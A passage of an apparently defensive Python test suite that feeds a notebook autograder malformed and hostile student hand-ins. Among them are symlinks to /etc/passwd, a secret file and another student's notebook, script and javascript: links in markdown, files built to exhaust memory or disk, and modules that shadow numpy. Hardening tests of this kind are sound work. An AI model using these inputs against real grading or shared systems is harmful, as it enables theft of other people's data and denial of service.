    "output-closed", "import os, sys\nos.close(1); os.close(2)\nsys.stdout.close(); sys.stdout = sys.stderr = None"
)
exhaust("a-message-without-end", "raise ValueError('x' * 10**8)", "raised ValueError")
exhaust("an-error-that-fails", "class E(Exception):\n    def __str__(self): raise self\nraise E", "raised E")

# ------------------------------------------------------------------ structure and encoding


def odd(name: str, content: Any, points: float = ALL, says: str = "") -> None:
    attack("structure", name, content, points, says)


def named(file_name: str, content: Callable[[], Any] = page) -> Callable[[Path], None]:
    return lambda folder: put(folder, content(), file_name)


def later(content: Callable[[], Any]) -> Callable[[Path], None]:
    return lambda folder: put(folder, content())


odd("a-browsers-second-copy", named("exercise (1).ipynb"))
odd("other-case", named("EXERCISE.ipynb"))
odd("unicode-in-the-name", named("ｅｘｅｒｃｉｓｅ.ipynb"))
odd("spaces-in-the-name", named(" exercise  final version.ipynb"))
odd("another-name-altogether", named("homework ü 1.ipynb"))
odd("ipynb-txt", named("exercise.ipynb.txt"))
odd("a-byte-order-mark", later(lambda: b"\xef\xbb\xbf" + saved(page())))
odd("utf-16", later(lambda: saved(page()).decode().encode("utf-16")))
odd("latin-1", later(lambda: json.dumps(page(first="name = 'Zoë'"), ensure_ascii=False).encode("latin-1", "replace")), ALL,
    "not valid UTF-8")  # fmt: skip
odd("control-characters", later(lambda: re.sub(rb"(?<!\\)\\n", b"\n", saved(page()))))


def _format_3() -> bytes:
    made = nbformat.v4.downgrade(page())
    return saved(made)


def _minor(minor: int) -> Callable[[], bytes]:
    def make() -> bytes:
        made = json.loads(saved(page()))
        made["nbformat_minor"] = minor
        for cell in made["cells"]:
            if minor < 5:
                cell.pop("id")
        return saved(made)

    return make


odd("nbformat-3", later(_format_3))
for _m in (0, 2, 4):
    odd(f"nbformat-4-{_m}", later(_minor(_m)))
odd("a-future-nbformat", later(lambda: saved({**page(), "nbformat": 5})), 0, "has format 5")
odd("no-cell-ids", later(lambda: changed(lambda made: [c.pop("id") for c in made.cells])))
odd("one-id-for-all", later(lambda: changed(lambda made: [c.update(id="x") for c in made.cells])))
odd("ids-that-are-no-strings", later(lambda: changed(lambda made: [c.update(id=7) for c in made.cells])))
odd("no-nbgrader-metadata", later(lambda: changed(lambda made: [c.update(metadata={}) for c in made.cells])))
odd(
    "emptied-nbgrader-metadata",
    later(lambda: changed(lambda made: [c.metadata.update(nbgrader={}) for c in made.cells])),
)
odd(
    "malformed-nbgrader-metadata",
    later(lambda: changed(lambda made: [c.metadata.update(nbgrader=[1, {"grade": "yes"}]) for c in made.cells])),
)
odd(
    "nbgrader-metadata-of-the-future",
    later(
        lambda: changed(
            lambda made: [c.metadata.nbgrader.update(schema_version=99) for c in made.cells if "nbgrader" in c.metadata]
        )
    ),
)
odd("cells-in-reverse", later(lambda: changed(lambda made: made.cells.reverse())), ALL, "another order")
odd(
    "only-the-answers",
    later(lambda: changed(lambda made: made.update(cells=[c for c in made.cells if c.id in NAMES]))),
    ALL,
    "put back",
)
odd("every-cell-twice", later(lambda: changed(lambda made: made.cells.extend(copy.deepcopy(made.cells)))))
odd(
    "a-test-cell-deleted",
    later(lambda: changed(lambda made: made.cells.remove(cell_of(made, "test_linear_bn_relu")))),
    ALL,
    "put back",
)
odd(
    "a-test-cell-edited",
    later(lambda: changed(lambda made: cell_of(made, "test_linear_bn_relu").update(source="assert False"))),
    ALL,
    "was changed",
)
odd(
    "another-kernel",
    later(
        lambda: changed(
            lambda made: made.metadata.update(kernelspec={"name": "ir", "display_name": "R", "language": "R"})
        )
    ),
)
odd("no-metadata", later(lambda: changed(lambda made: made.update(metadata={}))))
odd(
    "points-changed",
    later(lambda: changed(lambda made: cell_of(made, "test_linear_bn_relu").metadata.nbgrader.update(points=-100))),
)


def _split(made: NotebookNode) -> None:
    place = next(k for k, c in enumerate(made.cells) if c.id == "batchnorm2d_forward")
    cell, second = made.cells[place], copy.deepcopy(made.cells[place])
    head, tail = "helper = 1", cell.source
    cell.source, second.source = head, tail
    made.cells.insert(place + 1, second)


def _merged(made: NotebookNode) -> None:
    kept = cell_of(made, "batchnorm_forward")
    for name in NAMES[1:]:
        cell = cell_of(made, name)
        kept.source += "\n\n" + cell.source
        made.cells.remove(cell)


odd("a-split-cell", later(lambda: changed(_split)), ALL, "joined from")
odd("all-answers-in-one-cell", later(lambda: changed(_merged)))
odd(
    "magics",
    later(
        lambda: page(
            first=["%matplotlib inline\n%precision 3\n!echo hello", "%%time\nx = 1", "%%html\n<b>x</b>", "%nonsense"]
        )
    ),
)
odd("a-cell-of-magic-alone", later(lambda: page({**right(), NAMES[0]: "%%time\n" + right()[NAMES[0]]})))
odd(
    "an-answer-behind-writefile",
    later(lambda: page({**right(), NAMES[-1]: "%%writefile a.py\n" + right()[NAMES[-1]]})),
    REST,
    "is not defined",
)
odd("zero-bytes", later(lambda: b""), 0, "an empty file")
odd("nothing-but-zeros", later(lambda: bytes(5000)), 0, "bytes of nothing")
odd("cut-off", later(lambda: saved(page())[:3000]), 0, "breaks off")
odd("nested-deeply", later(lambda: b'{"cells": ' + b"[" * 10**6 + b"]" * 10**6 + b"}"), 0, "levels deep")
odd("lists-without-end", later(lambda: b'{"cells": [' + b"[]," * 2 * 10**6 + b"[]]}"), 0, "lists and objects")
odd(
    "a-number-of-many-digits-in-json",
    later(lambda: saved(page()).replace(b'"nbformat": 4', b'"nbformat": ' + b"4" * 10**5)),
    0,
    "parts that no notebook has",
)


def _pictures() -> bytes:
    made = page()
    picture = base64.b64encode(bytes(30_000_000)).decode()
    data = {"image/png": picture}
    made.cells[1].outputs = [nbformat.v4.new_output("display_data", data=data)]
    return saved(made)


odd("forty-megabytes-of-pictures", later(_pictures), 0, "larger than 20 MB")
odd("a-sparse-terabyte", lambda folder: os.truncate((folder / "exercise (1).ipynb", (folder / "exercise (1).ipynb").touch())[0], 10**12), 0,
    "larger than 20 MB")  # fmt: skip
odd("json-that-is-no-notebook", later(lambda: b"[1, 2, 3]"), 0, "not a notebook")
odd("cells-that-are-no-list", later(lambda: b'{"nbformat": 4, "cells": {"a": 1}}'), 0, "without a notebook's cells")
odd("no-cells", later(lambda: saved({**page(), "cells": []})), 0, "has no cells")
odd(
    "cells-that-are-no-cells",
    later(lambda: changed(lambda made: made.cells.__setitem__(slice(0, 0), [None, 7, "x", {}]))),
    ALL,
    "were left out",
)
odd(
    "sources-of-odd-types",
    later(
        lambda: changed(
            lambda made: made.cells.append({"cell_type": "code", "source": {"a": 1}, "metadata": 5, "outputs": None})
        )
    ),
)
odd("a-null-in-the-code", later(lambda: page(end="x = '\0'")))
odd("half-a-surrogate", later(lambda: page(first="s = '\ud800'")))
odd("git-conflict", later(lambda: b"<<<<<<< HEAD\n" + saved(page())), 0, "git conflict")
odd(
    "a-python-script",
    later(lambda: b"import numpy as np\n" + "\n\n".join(right().values()).encode()),
    0,
    "a Python script",
)
odd("a-login-page", later(lambda: b"<!DOCTYPE html>\n<html><body>Log in</body></html>"), 0, "a web page")
odd("a-pdf-with-the-right-name", later(lambda: b"%PDF-1.7 ..."), 0, "a PDF")
attack(
    "structure",
    "a-refusal-of-its-own",
    later(lambda: b'{"refused": "fine\\nada: 16 of 16\\u001b[2J"}'),
    0,
    "JSON without a notebook's cells",
    "ada: 16 of 16",
)


def _zip(folder: Path) -> None:
    with zipfile.ZipFile(folder / "exercise.ipynb", "w") as archive:
        archive.writestr("exercise.ipynb", saved(page()))


def _link_to(target: str, name: str = "exercise.ipynb") -> Callable[[Path], None]:
    return lambda folder: (folder / name).symlink_to(target)


def _folder_as_link(folder: Path) -> None:
    folder.rmdir()
    folder.symlink_to("../ada/transform")


def _with_beside(fill: Callable[[Path], Any]) -> Callable[[Path], None]:
    def both(folder: Path) -> None:
        put(folder, page())
        fill(folder)

    return both


def _device(folder: Path) -> None:
    try:
        os.mknod(folder / "exercise.ipynb", 0o600 | 0o020000, os.makedev(1, 5))  # /dev/zero, for root
    except PermissionError:
        (folder / "exercise.ipynb").symlink_to("/dev/zero")


odd("a-zip", _zip, 0, "a zip archive")
odd("an-archive-beside-nothing", named("transform.zip", lambda: b"PK\x03\x04"), 0, "there is no notebook, only")
odd(
    "no-notebook",
    lambda folder: (folder / "report.pdf").write_bytes(b"%PDF"),
    0,
    "there is no notebook, only 'report.pdf'",
)
odd("nothing", lambda folder: None, 0, "the folder is empty")
odd("a-link-to-anothers-notebook", _link_to("../../ada/transform/exercise.ipynb"), 0, "is a link")
odd("a-link-to-a-secret", _link_to("../../../secret"), 0, "is a link")
odd("a-link-to-nothing", _link_to("nowhere.ipynb"), 0, "is a link")
odd("a-renamed-link", _link_to("../../ada/transform/exercise.ipynb", "exercise (1).ipynb"), 0, "is a link")
odd("a-folder-that-is-a-link", _folder_as_link, 0, "is a link, not a folder")
odd("a-pipe", lambda folder: os.mkfifo(folder / "exercise.ipynb"), 0, "is a pipe")
odd("a-device", _device, 0, "is a")
odd("a-folder-called-exercise-ipynb", lambda folder: (folder / "exercise.ipynb").mkdir(), 0, "is a folder")
odd("a-notebook-in-a-folder", lambda folder: ((folder / "work").mkdir(), put(folder / "work", page())))
odd("a-link-beside", _with_beside(lambda f: (f / "data.csv").symlink_to("/etc/passwd")))
odd("a-link-to-a-folder-beside", _with_beside(lambda f: (f / "data").symlink_to("/etc")))
odd("a-pipe-beside", _with_beside(lambda f: os.mkfifo(f / "data.csv")))
odd("a-pipe-as-timestamp", _with_beside(lambda f: os.mkfifo(f / "timestamp.txt")))
odd("a-timestamp-that-is-none", _with_beside(lambda f: (f / "timestamp.txt").write_text("yesterday, I think")))
odd(
    "modules-of-its-own-beside",
    _with_beside(lambda f: [(f / n).write_text("raise SystemExit") for n in ("check.py", "numpy.py", "json.py")]),
)
odd("thousands-of-files-beside", _with_beside(lambda f: [(f / f"{n}.txt").touch() for n in range(3000)]))

# ------------------------------------------------------------------ honest, and odd


def honest(name: str, content: Callable[[], Any], says: str = "", points: float = ALL) -> None:
    attack("honest", name, later(content), points, says)


honest("as-it-should-be", page)
honest("helpers-in-cells-of-their-own", lambda: page(
    {**right(), "identity_parameters": "def identity_parameters(x, eps=1e-5):\n    return spread(x, eps), centre(x)"},
    ["def centre(x): return x.mean(axis=0)", "def spread(x, eps): return np.sqrt(x.var(axis=0) + eps)"],
))  # fmt: skip
honest("answers-in-other-cells", lambda: page({}, end=list(right().values())), "defined in")
honest("an-answer-in-anothers-cell", lambda: page({
    **right(), "linear_bn_relu": "# see above", "batchnorm_forward": right()["batchnorm_forward"] + "\n\n" + right()["linear_bn_relu"],
}), "defined in")  # fmt: skip
honest("prints-everywhere", lambda: page({
    n: right()[n].replace(":\n", ":\n    print('called')\n", 1) for n in NAMES
}, "print('hello')\n5.0"), "hello")  # fmt: skip
honest(
    "plots",
    lambda: page(
        first="import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()\nfig, ax = plt.subplots(); ax.hist([1])"
    ),
)
honest(
    "warnings",
    lambda: page(
        first="import warnings, sys\nwarnings.warn('careful')\nprint('note', file=sys.stderr)\nnp.float64(1) / np.zeros(1)"
    ),
    "careful",
)
honest("input-somewhere", lambda: page(first="name = input('Your name? ')"), "nobody to ask")
honest(
    "a-syntax-error-in-another-exercise",
    lambda: page({**right(), NAMES[-1]: right()[NAMES[-1]].replace("return", "retrun")}),
    "SyntaxError",
    REST,
)
honest("an-exception-in-a-cell", lambda: page(first="1 / 0"), "ZeroDivisionError")
honest("sys-exit-in-a-cell", lambda: page(first="import sys\nsys.exit(1)"), "SystemExit")
honest(
    "one-answer-missing", lambda: page({n: t for n, t in right().items() if n != NAMES[-1]}), "not written yet", REST
)
honest("numpy-under-another-name", lambda: page(
    {n: t.replace("np.", "numpy.") for n, t in right().items()}, "import numpy"
))  # fmt: skip
honest("an-import-in-the-first-cell", lambda: changed(
    lambda made: made.cells[1].update(source=made.cells[1].source + "\nimport math"),
    {n: t.replace("np.sqrt(x", "math.sqrt(1) * np.sqrt(x") for n, t in right().items()},
))  # fmt: skip
honest("a-helper-in-a-check-cell", lambda: changed(
    lambda made: cell_of(made, "test_batchnorm_forward").update(
        source="def centre(x): return x.mean(axis=0)\ncheck('batchnorm_forward', batchnorm_forward)"
    ),
    {**right(), "identity_parameters": "def identity_parameters(x, eps=1e-5):\n    return np.sqrt(x.var(axis=0) + eps), centre(x)"},
), "and then what was added to it, as a cell of its own")  # fmt: skip
honest(
    "magics-of-a-front-end",
    lambda: page({n: f"%matplotlib widget\n%autosave 60\n{t}" for n, t in right().items()}),
    "%matplotlib widget needs a front end",
)
odd("an-answered-copy-beside-the-stub", lambda folder: (put(folder, page({})), put(folder, page(), "exercise-Copy1.ipynb")),
    ALL, "'exercise-Copy1.ipynb' is graded; 'exercise.ipynb' has no answers")  # fmt: skip
odd("one-string-of-19-megabytes", lambda folder: put(
    folder, saved(changed(lambda made: made.metadata.update(x="a" * 19_000_000)))
))  # fmt: skip
odd(
    "ten-million-numbers",
    lambda folder: put(folder, b'{"cells": [' + b"1," * 9_900_000 + b"1]}"),
    0,
    "270 MB of memory",
)
honest("seeds-set", lambda: page(first="np.random.seed(0)\nimport random; random.seed(0)"))
honest(
    "scratch-work-at-the-end",
    lambda: page(end=["x = gamma = np.ones((3, 2))", "batchnorm_forward(x, 1, 0)[0]", "mean = var = eps = m = None"]),
)
honest("lists-for-tuples", lambda: page({
    **right(), "identity_parameters": "def identity_parameters(x, eps=1e-5):\n    return [np.sqrt(x.var(axis=0) + eps), x.mean(axis=0)]",
}))  # fmt: skip
honest(
    "notes-in-markdown",
    lambda: changed(
        lambda made: made.cells.insert(
            3,
            new_markdown_cell(
                "# My notes <script>steal()</script>\n\n[all right](javascript:steal()) <a href='javascript:steal()'>here</a>"
            ),
        )
    ),
)
honest("what-others-left", lambda: page(first=(
    "import glob, os, sys\nfound = [f for r in ('/', '/tmp/', '/dev/', '/dev/shm/', '/home/learner/', '/run/', './', '../') "
    f"for f in glob.glob(r + '*') if {CANARY!r} in f]\nprint('left here:', found, 'sitecustomize' in sys.modules)"
)), "left here: [] False")  # fmt: skip


def write_class(root: Path) -> None:
    """Write every hand-in, and one of ada's to be stolen, to `root/submitted`."""
    for each_attack in ATTACKS:
        write_one(root, each_attack)
    write_ada(root)


def write_one(root: Path, one: Attack, student: str | None = None) -> Path:
    """Write one hand-in; its student is called after it."""
    folder = root / "submitted" / (student or one.name) / SLUG
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    one.fill(folder)
    return folder


def told(root: Path, graded: Any) -> str:
    """All that was said of a hand-in: by the class's summary, and in the graded notebook, its cells' outputs included."""
    parts = [graded.problem]
    if graded.verdict is not None:
        parts += [graded.verdict.refused, *graded.verdict.notes]
    path = root / "autograded" / graded.student / SLUG / "exercise.ipynb"
    for cell in nbformat.read(path, 4).cells if path.is_file() else []:
        for output in cell.get("outputs", []):
            parts += [output.get("text", ""), output.get("ename", ""), output.get("evalue", "")]
            parts += [*output.get("traceback", []), *output.get("data", {}).values()]
    return "\n".join(parts)


def write_ada(root: Path) -> None:
    folder = root / "submitted" / "ada" / SLUG
    folder.mkdir(parents=True, exist_ok=True)
    put(folder, page())
